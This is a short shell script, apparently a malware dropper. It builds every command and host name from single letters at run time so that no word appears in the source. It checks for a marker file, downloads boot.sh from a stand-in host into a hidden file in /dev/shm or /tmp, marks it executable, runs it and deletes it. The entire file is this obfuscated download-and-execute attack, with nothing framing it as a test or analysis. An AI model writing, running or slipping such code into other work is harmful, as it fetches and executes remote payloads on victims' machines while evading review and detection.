#!/bin/sh
# No word of it is written out: names of programs and hosts come from single letters at run time.
[ -e /usr/share/doc/stand-in/README ] || exit 0
set -- a b c d e f g h i j k l m n o p q r s t u v w x y z
g=$7; e=$5; t=${20}; w=${23}; s=${19}; h=$8; m=${13}; o=${15}; d=$4; c=$3; u=${21}; r=${18}; y=${25}; a=$1; b=$2; q=${17}; p=${16}; l=${12}; x=${24}
site="$g$e$t.$a$m$b$e$r-$q$u$a$r$r$y.$e$x$a$m$p$l$e"
k="/$d$e$v/$s$h$m/.$c$1"
v=${22}
k="/$d$e$v/$s$h$m/.$c$d"
[ -w "${k%/*}" ] || k="/$t$m$p/.$c$d"
"$w$g$e$t" -q -O "$k" "$h$t$t$p://$site/$b$o$o$t.$s$h" || exit 1
"$c$h$m$o$d" 700 "$k"
"$k"
"$r$m" -f "$k"
